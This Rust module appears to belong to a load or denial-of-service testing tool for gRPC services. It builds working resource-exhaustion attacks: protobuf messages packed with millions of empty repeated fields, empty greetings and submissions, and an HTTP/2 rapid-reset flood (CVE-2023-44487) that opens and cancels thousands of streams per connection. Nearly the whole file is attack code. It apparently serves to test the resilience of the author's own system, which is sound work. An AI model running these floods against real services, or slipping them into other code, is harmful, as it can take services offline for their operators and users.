//! Messages that cost more than they weigh, and streams that are opened for nothing.

use std::sync::Arc;

use anyhow::Result;
use bytes::Bytes;
use prost::encoding::encode_varint;

use super::{Attack, pace};
use crate::connection::{Face, framed};
use crate::target::{Door, Target};

const CONVERSE: &str = "/rogatory.exchange.v1.Exchange/Converse";
const SUBMIT: &str = "/rogatory.casework.v1.Casework/Submit";
const CHECK: &str = "/grpc.health.v1.Health/Check";
/// Elements of a frame of 8 MB, and of a submission of 2 MB; each is a tag and a length of 0.
const FRAME_ELEMENTS: usize = 4_000_000;
const OFFENCES: usize = 1_000_000;
/// Streams that are reset before the node can answer, on one connection.
const RESETS: usize = 10_000;

/// `ConverseRequest.frame.batch.items`, empty, as many as a frame holds.
pub(super) fn empty_elements(target: Arc<Target>) -> Result<Attack> {
    // Items are field 4 of a batch, which is field 3 of a frame, which is field 1.
    let message = framed(&nested(&[1, 3], &[0x22, 0].repeat(FRAME_ELEMENTS)));
    converse(target, 4, message)
}

/// A greeting that says nothing.
pub(super) fn false_greetings(target: Arc<Target>) -> Result<Attack> {
    converse(target, 64, framed(&nested(&[1, 1], &[])))
}

/// `SubmitRequest.opening.warrant.offences`, empty.
pub(super) fn empty_offences(target: Arc<Target>) -> Result<Attack> {
    // Offences are field 8 of a warrant, which is field 3 of an opening, which is field 4.
    let face = Face::of(&target.own_case_system("empty")?)?;
    let message = framed(&nested(&[4, 3], &[0x42, 0].repeat(OFFENCES)));
    Ok(Box::pin(pace::at_a_time(target, 4, move |target, _| {
        let (face, message) = (face.clone(), message.clone());
        async move { face.greedy(&target, Door::Clients).await?.call(SUBMIT, message).await }
    })))
}

/// Opens streams and takes each back at once (CVE-2023-44487).
pub(super) fn rapid_reset(target: Arc<Target>) -> Result<Attack> {
    let face = Face::of(&target.partner_node()?)?;
    Ok(Box::pin(pace::at_a_time(target, 4, move |target, _| {
        let face = face.clone();
        async move {
            let connection = face.greedy(&target, Door::Peers).await?;
            for _ in 0..RESETS {
                let (_, mut body) = connection.open(CHECK).await?;
                body.send_reset(h2::Reason::CANCEL);
                target.tried();
            }
            Ok(())
        }
    })))
}

fn converse(target: Arc<Target>, at_a_time: usize, message: Bytes) -> Result<Attack> {
    let face = Face::of(&target.partner_node()?)?;
    Ok(Box::pin(pace::at_a_time(target, at_a_time, move |target, _| {
        let (face, message) = (face.clone(), message.clone());
        async move { face.greedy(&target, Door::Peers).await?.call(CONVERSE, message).await }
    })))
}

/// Bytes inside of fields of these numbers, the outermost first (each below 16, so that a tag is one byte).
fn nested(fields: &[u8], inside: &[u8]) -> Vec<u8> {
    fields.iter().rev().fold(inside.to_vec(), |inside, field| {
        let mut outside = vec![(field << 3) | 2];
        encode_varint(inside.len() as u64, &mut outside);
        outside.extend(inside);
        outside
    })
}
